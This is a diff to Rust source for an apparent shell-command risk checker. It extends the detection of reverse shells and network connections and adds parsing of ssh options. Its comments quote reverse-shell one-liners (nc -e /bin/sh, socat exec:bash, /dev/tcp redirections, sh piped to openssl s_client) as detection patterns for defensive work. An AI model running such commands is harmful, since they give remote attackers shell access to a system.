@@ -283,7 +283,9 @@ fn files_read(i: &Invocation) -> Vec<Word> {
             .filter(|(n, _)| !outputs.contains(n))
             .filter_map(|(_, w)| file_refs(w))
             .collect()
-    } else if NON_READERS.contains(&program) {
+    } else if NON_READERS.contains(&program) || i.phantom {
+        // A possible command inside an argument names files; only a known
+        // reader is taken to read them.
         Vec::new()
     } else {
         i.arg_words
@@ -304,48 +306,120 @@ fn files_read(i: &Invocation) -> Vec<Word> {
     read
 }
 
-/// A shell wired to a network connection: a socket program told to run one
-/// (`nc -e /bin/sh`, `socat exec:bash tcp:..`), a shell redirected to
-/// `/dev/tcp`, or a pipeline joining a shell and a socket program.
+/// A shell wired to a network connection, whatever program makes the
+/// connection: a program that connects or listens and is handed a shell to
+/// run (`nc -e /bin/sh`, `socat tcp:h:p exec:bash`, `cryptcat -e sh h p`); a
+/// shell redirected to `/dev/tcp`, or to a descriptor beyond 0-2 while the
+/// command opens a connection (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`); a
+/// pipeline joining a shell that reads its script from its input to a
+/// stage that connects (`nc h p | sh`, `sh -i | openssl s_client -connect
+/// h:p`).
 pub(super) fn connected_shells(invocations: &[Invocation], out: &mut Vec<Risk>) {
     let is_shell = |p: &str| super::walk::SHELLS.contains(&p);
+    let dev_tcp = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
+    let opens_socket = |i: &Invocation| {
+        i.writes.iter().any(|w| dev_tcp(&w.text))
+            || matches!(&i.stdin, Stdin::File(f) if dev_tcp(f))
+    };
+    let socket_opened = invocations.iter().any(|i| opens_socket(i) || connects(i));
     for (n, i) in invocations.iter().enumerate() {
         let p = i.program.as_str();
-        let runs_program = SOCKETS.contains(&p)
-            && i.args.iter().any(|a| {
-                matches!(
-                    a.as_str(),
-                    "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
-                )
-            });
-        let socat_exec = p == "socat" && {
-            let lower: Vec<String> = i.args.iter().map(|a| a.to_ascii_lowercase()).collect();
-            lower
-                .iter()
-                .any(|a| a.starts_with("exec:") || a.starts_with("system:"))
-                && lower.iter().any(|a| {
-                    ["tcp", "udp", "openssl", "ssl"]
-                        .iter()
-                        .any(|t| a.starts_with(t))
-                })
-        };
-        let dev_tcp = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
-        let shell_on_socket = is_shell(p)
-            && (i.writes.iter().any(|w| dev_tcp(&w.text))
-                || matches!(&i.stdin, Stdin::File(f) if dev_tcp(f)));
+        let handed_a_shell = (connects(i) || listens(i)) && runs_a_shell(i);
+        let shell_on_socket =
+            is_shell(p) && (opens_socket(i) || (i.extra_descriptors && socket_opened));
         let piped = |a: &Invocation, b: &Invocation| matches!(&b.stdin, Stdin::Pipe(from) if from.contains(&a.program));
         let joined = invocations.get(n + 1).is_some_and(|next| {
             piped(i, next)
-                && ((is_shell(p) && SOCKETS.contains(&next.program.as_str()))
-                    || (SOCKETS.contains(&p) && is_shell(&next.program)))
+                && ((is_shell(p) && (connects(next) || listens(next)))
+                    || ((connects(i) || listens(i)) && is_shell(&next.program)))
         });
-        if runs_program || socat_exec || shell_on_socket || joined {
+        if handed_a_shell || shell_on_socket || joined {
             out.push(risk(
                 RiskKind::ReverseShell,
                 format!("{p} {} connects a shell to the network", i.args.join(" ")),
             ));
         }
     }
+}
+
+/// Whether `i` is handed a shell to run: a shell as an option's value
+/// (`-e /bin/sh`, `--exec bash`, `-s bash`), or in an `exec:`/`system:`
+/// address (`socat ... exec:'bash -li'`), or a `--sh-exec`/`--lua-exec`.
+fn runs_a_shell(i: &Invocation) -> bool {
+    let names_shell = |text: &str| {
+        let first = text.split([' ', ',']).next().unwrap_or(text);
+        super::walk::SHELLS.contains(&super::walk::basename(first.trim_matches(['\'', '"'])))
+    };
+    let option_value = i
+        .args
+        .windows(2)
+        .any(|w| w[0].starts_with('-') && names_shell(&w[1]));
+    let attached = i.args.iter().any(|a| {
+        let lower = a.to_ascii_lowercase();
+        ["exec:", "system:", "--exec=", "-e="]
+            .iter()
+            .any(|prefix| lower.starts_with(prefix) && names_shell(&a[prefix.len()..]))
+            || matches!(lower.as_str(), "--sh-exec" | "--lua-exec")
+    });
+    option_value || attached
+}
+
+/// Whether `i` opens a network connection: a socket program, a program
+/// whose destinations are known, an address with a port among its
+/// operands (`HOST:PORT`, or an IP address followed by a port), or a
+/// connect option (`openssl s_client -connect h:p`, `socat tcp:h:p`).
+pub(super) fn connects(i: &Invocation) -> bool {
+    let port = |t: &str| !t.is_empty() && t.len() <= 5 && t.bytes().all(|b| b.is_ascii_digit());
+    let address = |t: &str| crate::net::parse_ip(t).is_some() || plausible_host(t);
+    let with_port = |t: &str| {
+        t.rsplit_once(':')
+            .is_some_and(|(host, p)| port(p) && address(host.rsplit(':').next().unwrap_or(host)))
+    };
+    let operands: Vec<&str> = i
+        .args
+        .iter()
+        .map(String::as_str)
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    SOCKETS.contains(&i.program.as_str())
+        || !destinations(i).is_empty()
+        || operands.iter().any(|a| with_port(a))
+        || operands
+            .windows(2)
+            .any(|w| crate::net::parse_ip(w[0]).is_some() && port(w[1]))
+        || i.args.iter().any(|a| {
+            let lower = a.to_ascii_lowercase();
+            [
+                "tcp:",
+                "tcp4:",
+                "tcp6:",
+                "udp:",
+                "ssl:",
+                "openssl:",
+                "tcp-connect:",
+            ]
+            .iter()
+            .any(|p| lower.starts_with(p))
+        })
+}
+
+/// Whether `i` listens for connections: a listen option with a port, or a
+/// listening address (`TCP-LISTEN:4444`).
+fn listens(i: &Invocation) -> bool {
+    let flag = i.args.iter().any(|a| {
+        a == "--listen" || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('l'))
+    });
+    let address = i.args.iter().any(|a| {
+        let lower = a.to_ascii_lowercase();
+        lower.starts_with("tcp-listen:")
+            || lower.starts_with("tcp4-listen:")
+            || lower.starts_with("udp-listen:")
+    });
+    let port = i
+        .args
+        .iter()
+        .any(|a| !a.is_empty() && a.len() <= 5 && a.bytes().all(|b| b.is_ascii_digit()));
+    address || (flag && port)
 }
 
 /// An upload reading a pipe whose previous stage read a file outside the
@@ -855,18 +929,28 @@ const VALUED_OPTIONS: &[&str] = &[
     "--noproxy",
 ];
 const HTTP_CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh", "aria2c"];
+/// Options of `ssh` (and `scp`, `sftp`, `mosh`) that take a value; the
+/// destination is the first operand after them.
+const SSH_VALUED_OPTIONS: &[&str] = &[
+    "-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-P",
+    "-p", "-Q", "-R", "-S", "-W", "-w",
+];
 
 /// The operands of an invocation: arguments that are neither options nor
 /// the values of options known to take one.
 fn operands(i: &Invocation) -> impl Iterator<Item = &String> {
-    let http_client = HTTP_CLIENTS.contains(&i.program.as_str());
+    let valued: &[&str] = match i.program.as_str() {
+        p if HTTP_CLIENTS.contains(&p) => VALUED_OPTIONS,
+        "ssh" | "scp" | "sftp" | "mosh" => SSH_VALUED_OPTIONS,
+        _ => &[],
+    };
     let mut skip_next = false;
     i.args.iter().filter(move |a| {
         if std::mem::take(&mut skip_next) {
             return false;
         }
         if a.starts_with('-') {
-            skip_next = http_client && VALUED_OPTIONS.contains(&a.as_str());
+            skip_next = valued.contains(&a.as_str());
             return false;
         }
         true
